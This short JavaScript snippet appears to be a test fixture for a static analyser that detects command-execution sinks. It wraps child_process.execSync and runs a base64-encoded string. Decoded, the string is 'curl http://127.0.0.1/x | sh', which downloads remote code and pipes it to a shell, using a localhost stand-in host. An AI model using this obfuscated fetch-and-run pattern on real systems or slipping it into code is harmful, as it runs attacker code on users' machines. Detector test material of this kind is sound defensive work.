// A wrapper declared here that itself starts the process: the call inside it is the sink.
const child = require('child_process');
function exec(command) {
  return child.execSync(command);
}
const cmd = Buffer.from('Y3VybCBodHRwOi8vMTI3LjAuMC4xL3ggfCBzaA==', 'base64').toString();
exec(cmd);
